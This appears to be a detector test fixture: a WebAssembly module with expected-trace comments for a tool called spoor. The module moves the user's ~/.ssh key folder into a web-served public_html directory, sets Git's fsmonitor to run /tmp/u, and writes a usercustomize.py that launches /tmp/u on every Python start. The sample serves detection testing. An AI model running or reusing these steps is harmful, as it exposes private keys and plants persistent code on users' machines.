;; RUN: spoor trace % --json
;; WHAT: Moves the folder of keys to where a web server shows it, and has Git and Python start a program of
;;   its own.
;; EXPECT: rule=exfiltration/network status=exited file=/home/user/.gitconfig:created
(module
  (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_create_directory" (func $make (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_rename" (func $rename (param i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 1024) "home/user/.ssh")
  (data (i32.const 1056) "home/user/public_html")
  (data (i32.const 1088) "home/user/public_html/k")
  (data (i32.const 1120) "home/user/.gitconfig")
  (data (i32.const 1152) "home/user/usercustomize.py")
  (data (i32.const 2048) "[core]\0a fsmonitor = /tmp/u\0a")
  (data (i32.const 2112) "import os\0aos.spawnlp(os.P_NOWAIT, '/tmp/u', 'u')\0a")
  (func $leave (param $path i32) (param $path_len i32) (param $text i32) (param $len i32)
    (if (i32.eqz (call $path_open (i32.const 3) (i32.const 1) (local.get $path) (local.get $path_len)
        (i32.const 1) (i64.const 0x40) (i64.const 0) (i32.const 0) (i32.const 12)))
      (then
        (i32.store (i32.const 0) (local.get $text))
        (i32.store (i32.const 4) (local.get $len))
        (drop (call $fd_write (i32.load (i32.const 12)) (i32.const 0) (i32.const 1) (i32.const 8)))
        (drop (call $fd_close (i32.load (i32.const 12)))))))
  (func (export "_start")
    (drop (call $make (i32.const 3) (i32.const 1056) (i32.const 21)))
    (drop (call $rename (i32.const 3) (i32.const 1024) (i32.const 14)
      (i32.const 3) (i32.const 1088) (i32.const 23)))
    (call $leave (i32.const 1120) (i32.const 20) (i32.const 2048) (i32.const 28))
    (call $leave (i32.const 1152) (i32.const 26) (i32.const 2112) (i32.const 49))))
